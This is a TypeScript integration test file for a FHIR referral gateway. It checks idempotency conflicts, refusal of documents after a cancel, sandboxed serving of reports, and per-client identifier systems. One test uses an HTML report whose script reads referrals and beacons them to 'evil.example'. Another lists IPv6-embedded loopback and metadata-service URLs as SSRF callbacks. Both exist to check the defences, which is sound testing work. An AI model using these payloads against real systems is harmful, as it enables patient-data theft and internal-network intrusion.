import type { DocumentReference, Task } from '@medplum/fhirtypes';
import type { Gateway } from '../../src/gateway';
import { MAX_STATUS_REASON_CHARS } from '../../src/tracking/centre-text';
import { eventually, fixture, KEY_A, KEY_B, startGateway } from '../helpers/gateway';
import { deliveryQueue, leasedQueue } from '../../src/store';

/**
 * Issue 10's contract slips and centre-supplied content, against the real service and its sandbox:
 * each of these answered wrongly on main before this change.
 */
describe('contract slips and centre content', () => {
  let gw: Gateway;
  let fhirBase: string;
  const api = (path: string, init: RequestInit = {}): Promise<Response> =>
    fetch(`${gw.url}${path}`, { ...init, headers: { Authorization: `Bearer ${KEY_A}`, 'Content-Type': 'application/json', ...(init.headers ?? {}) } });
  const fhir = async <T>(path: string, init: RequestInit = {}): Promise<T> => {
    const res = await fetch(`${fhirBase}/${path}`, { ...init, headers: { 'Content-Type': 'application/fhir+json', ...(init.headers ?? {}) } });
    if (!res.ok) throw new Error(`${init.method ?? 'GET'} ${path}: ${res.status} ${await res.text()}`);
    return (await res.json()) as T;
  };
  const submitAndSend = async (externalId: string): Promise<any> => {
    const res = await api('/referrals', { method: 'POST', body: JSON.stringify({ ...fixture(), externalId }) });
    expect(res.status).toBe(202);
    const { id } = (await res.json()) as { id: string };
    return eventually(async () => {
      const r = (await (await api(`/referrals/${id}`)).json()) as any;
      return r.status === 'sent' ? r : undefined;
    });
  };

  beforeAll(async () => {
    gw = await startGateway();
    fhirBase = `${gw.url}/sandbox/fhir/R4`;
  });
  afterAll(() => gw.stop());

  test('the same externalId with another body and a new Idempotency-Key is a 409 that names externalId, not the key', async () => {
    const body = { ...fixture(), externalId: 'EHR-409-NAMING' };
    expect((await api('/referrals', { method: 'POST', body: JSON.stringify(body), headers: { 'Idempotency-Key': 'first-key' } })).status).toBe(202);
    const res = await api('/referrals', {
      method: 'POST',
      body: JSON.stringify({ ...body, questions: ['Another question?'] }),
      headers: { 'Idempotency-Key': 'never-used-key' },
    });
    expect(res.status).toBe(409);
    const oo = (await res.json()) as any;
    expect(oo.issue[0].expression).toEqual(['externalId']);
    expect(oo.issue[0].details.text).toMatch(/^externalId EHR-409-NAMING was already submitted as referral ref_\w+ with a different body$/);
    // The key itself, reused for another referral, is still blamed on the key.
    const reused = await api('/referrals', {
      method: 'POST',
      body: JSON.stringify({ ...body, externalId: 'EHR-409-OTHER' }),
      headers: { 'Idempotency-Key': 'first-key' },
    });
    expect(reused.status).toBe(409);
    expect(((await reused.json()) as any).issue[0].expression).toEqual(['Idempotency-Key']);
  });

  test('documents sent after a cancel was accepted are refused with 409 and never reach the centre', async () => {
    const sent = await submitAndSend('EHR-DOCS-AFTER-CANCEL');
    // Hold the worker so the cancel stays queued: the window in which main accepted (and later delivered) documents.
    await gw.worker.stop();
    try {
      expect((await api(`/referrals/${sent.id}/cancel`, { method: 'POST', body: JSON.stringify({ reason: 'Patient chose another centre' }) })).status).toBe(
        202
      );
      const doc = { kind: 'pathology-report', title: 'Late addendum', contentType: 'text/plain', data: Buffer.from('addendum').toString('base64') };
      const res = await api(`/referrals/${sent.id}/documents`, { method: 'POST', body: JSON.stringify({ documents: [doc] }) });
      expect(res.status).toBe(409);
      expect(((await res.json()) as any).issue[0].details.text).toMatch(/cancel accepted: documents can no longer be added/);
      expect((await leasedQueue.forReferral(gw.db, deliveryQueue, sent.id)).map((e) => e.kind)).toEqual(['submit', 'cancel']);
    } finally {
      gw.worker.start();
    }
  });

  test('100,000 unknown keys get a short answer: at most 20 keys named, the rest counted', async () => {
    const extra = Object.fromEntries(Array.from({ length: 100_000 }, (_, i) => [`unknown_${i}`, i]));
    const res = await api('/referrals', { method: 'POST', body: JSON.stringify({ ...fixture(), ...extra }) });
    expect(res.status).toBe(422);
    const text = await res.text();
    expect(text.length).toBeLessThan(4096);
    const oo = JSON.parse(text) as any;
    expect(oo.issue.length).toBeLessThanOrEqual(101);
    expect(oo.issue[0].details.text).toMatch(/unknown_0, unknown_1, .* and 99980 more$/);
  });

  test('an HTML "report" from the centre is a download, sandboxed and never sniffed; a huge statusReason is cut', async () => {
    const sent = await submitAndSend('EHR-HTML-REPORT');
    const task = await fhir<Task>(sent.fhir.task);
    const html = '<html><body><script>fetch("/referrals").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example/",t))</script></body></html>';
    const report = await fhir<DocumentReference>('DocumentReference', {
      method: 'POST',
      body: JSON.stringify({
        resourceType: 'DocumentReference',
        status: 'current',
        subject: (await fhir<any>(sent.fhir.serviceRequest)).subject,
        content: [{ attachment: { contentType: 'text/html', title: 'Opinion', data: Buffer.from(html).toString('base64') } }],
      }),
    });
    await fhir<Task>(`Task/${task.id}`, {
      method: 'PUT',
      body: JSON.stringify({
        ...task,
        status: 'completed',
        statusReason: { text: 'x'.repeat(50_000) },
        output: [{ type: { text: 'opinion report' }, valueReference: { reference: `DocumentReference/${report.id}` } }],
      }),
    });
    await gw.poller.pollOnce();
    const done = (await (await api(`/referrals/${sent.id}`)).json()) as any;
    expect(done.status).toBe('completed');
    expect(done.statusReason.length).toBe(MAX_STATUS_REASON_CHARS);
    expect(done.statusReason.endsWith('…')).toBe(true);

    const content = await api(done.report.url);
    expect(content.status).toBe(200);
    expect(content.headers.get('content-disposition')).toBe(`attachment; filename="report-${sent.id}.html"`);
    expect(content.headers.get('x-content-type-options')).toBe('nosniff');
    expect(content.headers.get('content-security-policy')).toMatch(/^sandbox; default-src 'none'/);
    expect(await content.text()).toBe(html);
  });

  test('a PDF or plain-text report stays inline, still without scripts', async () => {
    const sent = await submitAndSend('EHR-TEXT-REPORT');
    const task = await fhir<Task>(sent.fhir.task);
    await fhir<Task>(`Task/${task.id}`, {
      method: 'PUT',
      body: JSON.stringify({
        ...task,
        status: 'completed',
        output: [
          { type: { text: 'opinion report' }, valueAttachment: { contentType: 'text/plain', data: Buffer.from('Agree with the plan.').toString('base64') } },
        ],
      }),
    });
    await gw.poller.pollOnce();
    const done = (await (await api(`/referrals/${sent.id}`)).json()) as any;
    const content = await api(done.report.url);
    expect(content.headers.get('content-type')).toBe('text/plain; charset=utf-8');
    expect(content.headers.get('content-disposition')).toBe(`inline; filename="report-${sent.id}.txt"`);
    expect(content.headers.get('content-security-policy')).toMatch(/^sandbox; default-src 'none'/);
    expect(await content.text()).toBe('Agree with the plan.');
  });
});

describe('callback URLs that embed an IPv4 address in IPv6 (private networks refused)', () => {
  let gw: Gateway;
  beforeAll(async () => {
    gw = await startGateway({ WEBHOOK_ALLOW_PRIVATE_NETWORKS: 'false' });
  });
  afterAll(() => gw.stop());

  test.each([
    'http://[::127.0.0.1]:9000/hooks',
    'http://[::ffff:0:127.0.0.1]/hooks',
    'http://[64:ff9b::169.254.169.254]/latest',
    'http://[2002:a00:1::]/hooks',
  ])('%s is refused at submission, naming callbackUrl', async (callbackUrl) => {
    const res = await fetch(`${gw.url}/referrals`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${KEY_A}`, 'Content-Type': 'application/json' },
      body: JSON.stringify({ ...fixture(), callbackUrl }),
    });
    expect(res.status).toBe(422);
    const oo = (await res.json()) as any;
    expect(oo.issue[0].expression).toEqual(['callbackUrl']);
    expect(oo.issue[0].details.text).toMatch(/non-public address/);
  });
});

describe('patient identifier systems per client (CLIENT_IDENTIFIER_SYSTEMS)', () => {
  let gw: Gateway;
  const CITY_SYSTEM = 'urn:oid:2.16.840.1.113883.19.5';
  const submit = (key: string, body: unknown): Promise<Response> =>
    fetch(`${gw.url}/referrals`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${key}`, 'Content-Type': 'application/json' },
      body: JSON.stringify(body),
    });
  beforeAll(async () => {
    gw = await startGateway({ CLIENT_IDENTIFIER_SYSTEMS: `city-hospital=${CITY_SYSTEM};other-clinic=https://other-clinic.example.org/mrn` });
  });
  afterAll(() => gw.stop());

  test("a second hospital sending the first hospital's identifier system is refused at intake, naming the field; nothing is stored", async () => {
    const res = await submit(KEY_B, { ...fixture(), externalId: 'CLINIC-1' });
    expect(res.status).toBe(422);
    const oo = (await res.json()) as any;
    expect(oo.issue[0]).toMatchObject({ code: 'business-rule', expression: ['patient.identifiers[0].system'] });
    expect(oo.issue[0].details.text).toMatch(/belongs to another sender/);
    expect(oo.issue[0].details.text).not.toMatch(/city-hospital|MRN-0042/);
    const list = (await (await fetch(`${gw.url}/referrals`, { headers: { Authorization: `Bearer ${KEY_B}` } })).json()) as any;
    expect(list.items).toEqual([]);
  });

  test('each hospital is served with its own systems', async () => {
    expect((await submit(KEY_A, { ...fixture(), externalId: 'CITY-1' })).status).toBe(202);
    const own = fixture();
    own.patient.identifiers = [{ system: 'https://other-clinic.example.org/mrn', value: 'OC-7' }];
    expect((await submit(KEY_B, { ...own, externalId: 'CLINIC-2' })).status).toBe(202);
  });
});
